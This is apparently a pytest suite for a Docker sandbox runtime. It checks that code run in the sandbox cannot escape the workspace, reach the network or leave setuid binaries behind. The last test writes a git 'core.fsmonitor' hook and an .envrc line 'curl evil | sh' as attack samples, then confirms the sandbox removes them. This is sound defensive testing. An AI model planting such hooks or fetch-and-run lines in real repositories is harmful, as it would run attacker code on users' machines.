"""A session with a workspace (a host folder, read-write, its working directory) and with packages (the image
``rlm sandbox build-image --with …`` derives), against a real engine."""

from __future__ import annotations

import json
import os
import textwrap
import time

import pytest

from rlm_host import SandboxServices
from rlm_host.sdk.sandbox import SandboxLimits

from docker_fixtures import containers_of, docker_client, docker_engine, prepare_image  # noqa: F401 (fixtures)

pytestmark = pytest.mark.slow

OWNER = (4321, 4322)  # as root, the workspace is given to this uid:gid: the container must take it from the folder


def run_ok(session, code: str) -> str:
    result = session.execute(textwrap.dedent(code))
    assert result.ok, result.error
    return result.stdout


@pytest.fixture
def project(tmp_path):
    """A workspace folder owned by someone else than root (when the tests run as root), next to a secret."""
    (tmp_path / "secret.txt").write_text("host secret")
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "given.txt").write_text("from the host")
    (folder / "escape").symlink_to(tmp_path / "secret.txt")  # an absolute host path: means nothing inside
    if os.geteuid() == 0:
        for path in (folder, folder / "given.txt"):
            os.chown(path, *OWNER)
    return folder


@pytest.fixture
def session(docker_engine, project):
    from rlm_sandbox_docker.runtime import create

    session = create(None, SandboxServices(limits=SandboxLimits(exec_timeout=60, memory_mb=1024), workspace=project))
    session.start()
    yield session
    session.shutdown()


@pytest.fixture(scope="module")
def pytest_image():
    """The derived image with pytest: built at most once per test session (and kept by the engine)."""
    return prepare_image(("pytest",))


def test_files_written_in_the_workspace_belong_to_the_host_user(session, project):
    out = run_ok(session, """
        import os
        print(os.getcwd(), os.getuid(), os.getgid(), os.environ['HOME'], os.environ['TMPDIR'])
        print(open('given.txt').read())
        os.makedirs('pkg', exist_ok=True)
        with open('pkg/made.py', 'w') as f:
            f.write('x = 1\\n')
    """)
    st = project.stat()
    assert out.splitlines() == [f"/workspace {st.st_uid} {st.st_gid} /work /work", "from the host"]
    made = project / "pkg" / "made.py"
    assert made.read_text() == "x = 1\n"
    assert (made.stat().st_uid, made.stat().st_gid) == (st.st_uid, st.st_gid)
    assert ((project / "pkg").stat().st_uid, (project / "pkg").stat().st_gid) == (st.st_uid, st.st_gid)
    if os.geteuid() == 0:
        assert (st.st_uid, st.st_gid) == OWNER  # the folder's owner, not the user running rlm


def test_only_the_workspace_and_the_tmpfs_are_writable(session, containers_of):
    out = run_ok(session, """
        import os
        for directory in ['/', '/tmp', '/etc', '/usr', '/usr/local/lib', '/opt/rlm-host', '/rlm-input', '/work',
                          '/workspace']:
            try:
                with open(os.path.join(directory, 'probe'), 'w') as f:
                    f.write('x')
                print(directory, 'writable')
            except OSError:
                print(directory, 'refused')
    """)
    assert [line for line in out.splitlines() if line.endswith("writable")] == ["/work writable",
                                                                               "/workspace writable"]
    [container] = containers_of(session)
    host = container.attrs["HostConfig"]
    assert host["ReadonlyRootfs"] is True and host["NetworkMode"] == "none" and host["CapDrop"] == ["ALL"]
    assert host["SecurityOpt"] == ["no-new-privileges"]
    assert f"{session.workspace}:/workspace:rw" in host["Binds"]


def test_host_paths_outside_the_workspace_are_not_visible(session, project):
    secret = project.parent / "secret.txt"
    out = run_ok(session, f"""
        import os
        print(os.path.realpath('..'), os.path.realpath('../..'))
        for path in ['../secret.txt', '../../secret.txt', '../project/given.txt', {str(secret)!r},
                     {str(project / 'given.txt')!r}, 'escape']:
            try:
                print(path, open(path).read())
            except OSError as exc:
                print(path, type(exc).__name__)
        print(sorted(os.listdir('..')) == sorted(os.listdir('/')), 'secret.txt' in os.listdir('..'))
    """)
    lines = out.splitlines()
    assert lines[0] == "/ /"  # `..` of the working directory is the container's root
    assert "host secret" not in out and "from the host" not in out
    assert all(line.endswith("FileNotFoundError") for line in lines[1:7]), out
    assert lines[7] == "True False"


def test_no_network_in_a_workspace_session(session):
    out = run_ok(session, """
        import os, socket
        try:
            socket.create_connection(('1.1.1.1', 53), timeout=3)
            print('connected')
        except OSError:
            print('refused')
        print(sorted(os.listdir('/sys/class/net')))
    """)
    assert out.splitlines() == ["refused", "['lo']"]


def test_a_session_with_packages_runs_them_in_the_workspace(pytest_image, project):
    from rlm_sandbox_docker.runtime import create

    (project / "test_sample.py").write_text("def test_one():\n    assert 1 + 1 == 2\n")
    session = create(None, SandboxServices(limits=SandboxLimits(exec_timeout=60), workspace=project,
                                           packages=("pytest",)))
    try:
        assert session.image == pytest_image
        out = run_ok(session, """
            import subprocess, sys
            version = subprocess.run([sys.executable, '-m', 'pytest', '--version'], capture_output=True, text=True)
            print(version.returncode, version.stdout.strip())
            tests = subprocess.run([sys.executable, '-m', 'pytest', '-q', '-p', 'no:cacheprovider'],
                                   capture_output=True, text=True)
            print(tests.returncode, tests.stdout.strip().splitlines()[-1])
            compiled = subprocess.run([sys.executable, '-m', 'compileall', '-q', '.'], capture_output=True)
            print(compiled.returncode)
        """)
    finally:
        session.shutdown()
    lines = out.splitlines()
    assert lines[0].startswith("0 pytest ") and lines[1].startswith("0 1 passed") and lines[2] == "0"
    assert list((project / "__pycache__").glob("test_sample.*.pyc"))  # written by compileall, on the host


def test_the_derived_image_is_labelled_and_the_command_finds_it(pytest_image, docker_client, rlm_cli):
    image = docker_client.images.get(pytest_image)
    labels = image.labels
    assert json.loads(labels["org.rlm.sandbox-packages"]) == ["pytest"]
    assert labels["org.rlm.sandbox-base"] == "rlm-sandbox:py3" and labels["org.rlm.sandbox-image"] == "1"
    assert image.attrs["Config"]["User"] == "65534:65534"
    done = rlm_cli("sandbox", "build-image", "--with", "pytest", "--json", plugins="rlm-sandbox-docker")
    assert done.code == 0, done.err
    result = json.loads(done.out)
    assert result["tag"] == pytest_image and result["built"] is False  # found, not built again


def test_a_missing_derived_image_names_the_command_that_builds_it(docker_engine, docker_client):
    from rlm_sandbox_docker.engine import DockerSandboxError, derived_tag
    from rlm_sandbox_docker.runtime import DockerSandbox
    from rlm_sandbox_docker.settings import DockerSettings

    packages = ("rlm-never-built-probe==0.0", "pytest")  # a set nobody builds
    tag = derived_tag(packages)
    session = DockerSandbox(DockerSettings(build_missing="never"), packages=packages)  # never asked, even on a tty
    started = time.monotonic()
    with pytest.raises(DockerSandboxError) as raised:
        session.start()
    session.shutdown()
    assert str(raised.value) == (f"image {tag} (the sandbox image with pytest, rlm-never-built-probe==0.0) not "
                                 "found: run `rlm sandbox build-image --with pytest --with rlm-never-built-probe==0.0`")
    assert time.monotonic() - started < 10
    assert tag not in {t for image in docker_client.images.list() for t in image.tags}


def test_set_id_programs_left_in_the_workspace_lose_the_bits(session, project):
    """The code runs as the folder's owner and could leave a set-user-ID copy of python for local users on the
    host; after the step the bits are gone (a symlink named like a file is never followed)."""
    result = session.execute(textwrap.dedent("""
        import os, shutil, sys
        shutil.copy(sys.executable, "suid-python")
        os.chmod("suid-python", 0o6755)
        print(oct(os.stat("suid-python").st_mode & 0o7777))
    """))
    assert result.ok and result.stdout.strip() == "0o6755", result.error  # the container could set them …
    mode = (project / "suid-python").stat().st_mode
    assert mode & 0o7777 == 0o755, oct(mode)  # … and the host took them away before the step returned


def test_version_control_metadata_is_read_only_and_new_metadata_is_removed(docker_engine, project):
    """A core.fsmonitor command written to .git/config would run on the user's next `git status`: the existing
    .git and .envrc are mounted read-only, and a .git or .envrc the code creates (here in a subfolder, a nested
    repository) is gone when the step returns."""
    from rlm_sandbox_docker.runtime import create

    (project / ".git").mkdir()
    (project / ".git" / "config").write_text("[core]\n")
    (project / ".envrc").write_text("export A=1\n")
    if os.geteuid() == 0:
        for path in (project / ".git", project / ".git" / "config", project / ".envrc"):
            os.chown(path, *OWNER)
    session = create(None, SandboxServices(limits=SandboxLimits(exec_timeout=60, memory_mb=1024), workspace=project))
    session.start()
    try:
        out = run_ok(session, """
            import os
            for path in (".git/config", ".envrc", ".git/hooks-new"):
                try:
                    with open(path, "a") as handle:
                        handle.write("[core]\\n\\tfsmonitor = touch /tmp/pwned\\n")
                    print(path, "written")
                except OSError as exc:
                    print(path, "refused", exc.strerror)
            os.makedirs("sub/.git", exist_ok=True)
            with open("sub/.git/config", "w") as handle:
                handle.write("[core]\\n\\tfsmonitor = touch /tmp/pwned\\n")
            with open("sub/.envrc", "w") as handle:
                handle.write("curl evil | sh\\n")
            print("created")
        """)
    finally:
        session.shutdown()
    assert ".git/config refused Read-only file system" in out and ".envrc refused Read-only file system" in out
    assert "created" in out
    assert (project / ".git" / "config").read_text() == "[core]\n"
    assert (project / ".envrc").read_text() == "export A=1\n"
    assert not (project / "sub" / ".git").exists() and not (project / "sub" / ".envrc").exists()
    assert (project / "sub").is_dir()  # the code's own folder stays
